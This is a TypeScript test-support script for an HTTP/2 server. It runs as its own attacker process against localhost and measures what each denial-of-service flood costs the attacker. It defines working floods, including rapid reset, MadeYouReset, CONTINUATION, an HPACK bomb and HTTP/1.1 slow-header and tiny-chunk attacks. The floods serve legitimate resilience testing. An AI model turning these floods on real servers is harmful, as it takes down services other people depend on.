import { readFileSync } from "node:fs";
import { connect as connectTcp, type Socket } from "node:net";
import { createInterface } from "node:readline";
import { connect as connectTls, createSecureContext } from "node:tls";
import { fileURLToPath } from "node:url";
import * as frames from "../../src/http/http2/frames.ts";
import { rawFields, rawFrame, rawPreface, uint32 } from "../support/http2-raw.ts";

/**
 * An attacker as a process of its own, so that what it spends can be counted. It reads orders, a line of JSON each; says "ready"
 * and waits for one more line; opens connections, one after the other, floods each until it is cut off; and prints what that cost.
 */
const { HEADERS, DATA, SETTINGS, PING, PRIORITY, RST_STREAM, WINDOW_UPDATE, CONTINUATION } = frames;
const WHOLE = frames.END_HEADERS;
const END = frames.END_STREAM;
const post = rawFields([":method", "POST", ":scheme", "http", ":path", "/", ":authority", "orders"]);
const get = rawFields([":method", "GET", ":scheme", "http", ":path", "/", ":authority", "orders"]);
const begun = (id: number): Buffer => rawFrame(HEADERS, WHOLE, id, post);
const asked = (id: number): Buffer => rawFrame(HEADERS, WHOLE | END, id, get);
const bomb = Buffer.concat([
  get,
  Buffer.from("4001617f811e", "hex"),
  Buffer.alloc(3_968, "v"),
  Buffer.alloc(10_000, 0xbe),
]);

/** What is said piece by piece: a first part, and then the same thing again and again, the stream's number aside. */
interface Flood {
  readonly first: Buffer;
  next(i: number): Buffer;
  readonly http1?: true;
}

const begun2 = Buffer.concat([rawPreface, rawFrame(SETTINGS, 0, 0), rawFrame(SETTINGS, 1, 0)]);
const with1 = Buffer.concat([begun2, begun(1)]);

export const floods: Readonly<Record<string, Flood>> = {
  "rapid reset": {
    first: begun2,
    next: (i) => Buffer.concat([asked(2 * i + 1), rawFrame(RST_STREAM, 0, 2 * i + 1, uint32(8))]),
  },
  MadeYouReset: {
    first: begun2,
    next: (i) => Buffer.concat([begun(2 * i + 1), rawFrame(WINDOW_UPDATE, 0, 2 * i + 1, uint32(0))]),
  },
  CONTINUATION: {
    first: Buffer.concat([begun2, rawFrame(HEADERS, 0, 1, get)]),
    next: () => rawFrame(CONTINUATION, 0, 1),
  },
  PING: { first: begun2, next: () => rawFrame(PING, 0, 0, Buffer.alloc(8)) },
  SETTINGS: { first: begun2, next: () => rawFrame(SETTINGS, 0, 0, "0004 00010000 0001 00001000") },
  PRIORITY: { first: begun2, next: (i) => rawFrame(PRIORITY, 0, 2 * i + 1, "0000000005") },
  "empty DATA": { first: with1, next: () => rawFrame(DATA, 0, 1) },
  "DATA of a byte": { first: with1, next: () => rawFrame(DATA, 0, 1, "00") },
  WINDOW_UPDATE: { first: with1, next: () => rawFrame(WINDOW_UPDATE, 0, 1, uint32(1)) },
  "HPACK bomb": {
    first: begun2,
    next: (i) =>
      rawFrame(HEADERS, WHOLE | END, 2 * i + 1, i === 0 ? bomb : Buffer.concat([get, Buffer.alloc(10_000, 0xbe)])),
  },
  "cookie crumbs": {
    first: begun2,
    next: (i) =>
      rawFrame(
        HEADERS,
        WHOLE | END,
        2 * i + 1,
        Buffer.concat([get, Buffer.from("6001", "hex"), Buffer.from("c"), Buffer.alloc(5_000, 0xbe)]),
      ),
  },
  "streams without end": { first: begun2, next: (i) => begun(2 * i + 1) },
  "requests that are refused": {
    first: begun2,
    next: (i) => rawFrame(HEADERS, WHOLE | END, 2 * i + 1, Buffer.concat([get, rawFields(["x_a", "1"])])),
  },
  "HTTP/1.1 heads of 16 KB": {
    first: Buffer.from("GET / HTTP/1.1\r\nHost: orders\r\n"),
    next: (i) => Buffer.from(`X-${i}: ${"v".repeat(1_000)}\r\n`),
    http1: true,
  },
  "HTTP/1.1 chunks of a byte": {
    first: Buffer.from("POST / HTTP/1.1\r\nHost: orders\r\nTransfer-Encoding: chunked\r\n\r\n"),
    next: () => Buffer.from("1;a=b\r\nx\r\n"),
    http1: true,
  },
  "HTTP/1.1 nonsense": { first: Buffer.alloc(0), next: () => Buffer.from("GET / HTTP/9.9\r\n\r\n"), http1: true },
};

const piecesMax = 20_000;
const batch = 64;

async function flood(open: () => Socket, of: Flood): Promise<number> {
  const socket = open();
  const cut = { off: false };
  for (const event of ["error", "close", "end"]) socket.on(event, () => (cut.off = true));
  socket.resume();
  await new Promise<void>((resolve) => {
    socket.once("secureConnect", () => resolve());
    socket.once("connect", () => "encrypted" in socket || resolve());
    socket.once("close", () => resolve());
  });
  let bytes = of.first.length;
  socket.write(of.first);
  for (let i = 0; i < piecesMax && !cut.off; i += batch) {
    const piece = Buffer.concat(Array.from({ length: batch }, (_, k) => of.next(i + k)));
    bytes += piece.length;
    const room = socket.write(piece);
    if (!room)
      await new Promise<void>(
        (resolve) => (
          socket.once("drain", resolve),
          socket.once("close", resolve),
          socket.once("error", () => resolve())
        ),
      );
    await new Promise((resolve) => setImmediate(resolve));
  }
  socket.destroy();
  return bytes;
}

/** Which flood, at which port, with which identity (a file, or "-" for a plain connection), for how long. */
export interface Order {
  readonly name: string;
  readonly port: number;
  readonly identity: string;
  readonly ms: number;
}

export interface Spent {
  readonly cpuMs: number;
  readonly bytes: number;
  readonly connections: number;
}

async function carryOut({ name, port, identity, ms }: Order, begin: () => Promise<void>): Promise<Spent> {
  const of = floods[name];
  if (of === undefined) throw new Error(`no flood ${name}`);
  const ALPNProtocols = [of.http1 === true ? "http/1.1" : "h2"];
  const own =
    identity === "-" ? undefined : (JSON.parse(readFileSync(identity, "utf8")) as { key: string; cert: string });
  const secureContext = own === undefined ? undefined : createSecureContext({ key: own.key, cert: own.cert });
  const open = (): Socket =>
    secureContext === undefined
      ? connectTcp(port, "127.0.0.1")
      : connectTls({ host: "127.0.0.1", port, secureContext, ALPNProtocols, rejectUnauthorized: false });
  // What is compiled with the first connections, at both ends, is not the flood's.
  for (let i = 0; i < 3; i++) await flood(open, of);
  await begin();
  const before = process.cpuUsage();
  const until = performance.now() + ms;
  let bytes = 0;
  let connections = 0;
  while (performance.now() < until) {
    bytes += await flood(open, of);
    connections++;
  }
  const { user, system } = process.cpuUsage(before);
  return { cpuMs: (user + system) / 1_000, bytes, connections };
}

if (process.argv[1] === fileURLToPath(import.meta.url)) {
  const lines = createInterface({ input: process.stdin })[Symbol.asyncIterator]();
  for (let line = await lines.next(); line.done !== true; line = await lines.next()) {
    const spent = await carryOut(JSON.parse(line.value) as Order, async () => {
      process.stdout.write("ready\n");
      await lines.next();
    });
    process.stdout.write(`${JSON.stringify(spent)}\n`);
  }
}
